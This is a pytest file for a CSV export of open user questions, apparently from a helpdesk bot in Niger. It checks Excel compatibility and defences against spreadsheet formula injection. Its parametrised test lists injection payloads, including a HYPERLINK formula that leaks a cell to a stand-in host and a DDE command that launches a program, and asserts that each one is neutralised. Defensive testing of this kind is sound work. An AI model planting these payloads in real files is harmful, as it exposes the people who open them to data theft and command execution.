"""The open questions as a file: what Excel needs to open it, and nothing it would run."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from config.settings import ROOT
from config.texts import Texts
from handlers.questions_file import questions_file
from memory.records import OpenQuestion

TEXTS = Texts.load(ROOT / "data" / "texts")
AT = datetime(2026, 11, 25, 23, 30, tzinfo=UTC).timestamp()  # past midnight in Niamey


def rows_of(*questions: OpenQuestion) -> list[list[str]]:
    data = questions_file(questions, TEXTS, AT).data
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_excel_opens_it() -> None:
    question = OpenQuestion(7, 'où est "l\'agence" ; à Zinder ?', "dje", "bad_rating", 3, AT)
    file = questions_file([question], TEXTS, AT)
    assert (file.name, file.media_type) == ("questions-2026-11-26.csv", "text/csv")
    assert file.data.startswith(b"\xef\xbb\xbfNum\xc3\xa9ro;Question;")
    assert file.data.endswith(b"\r\n")
    assert rows_of(question)[1] == [
        "7",
        'où est "l\'agence" ; à Zinder ?',
        "zarma",
        "jugée inutile",
        "3",
        "26/11/2026 00:30",
    ]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://a.example/?x="&A1;"voir")',
        "+227;=cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r\n=1",
        " \u00a0=1",
        "\u200b=1",
        "\ufeff=1",
        "＝1+1",
        "\0=1",
    ],
)
def test_no_cell_is_a_formula(text: str) -> None:
    _, row = rows_of(OpenQuestion(1, text, "fr", "unanswered", 1, AT))
    assert len(row) == 6
    assert row[1].startswith("'")


def test_a_question_of_several_lines_is_one_row() -> None:
    _, row = rows_of(OpenQuestion(1, "un\r\n\r\n=deux\u2028trois", "fr", "unanswered", 1, AT))
    assert row[1] == "un =deux trois"


def test_a_ussd_code_stays_as_it_is() -> None:
    _, row = rows_of(OpenQuestion(1, "*141*3# c'est quoi", "fr", "unanswered", 1, AT))
    assert row[1] == "*141*3# c'est quoi"
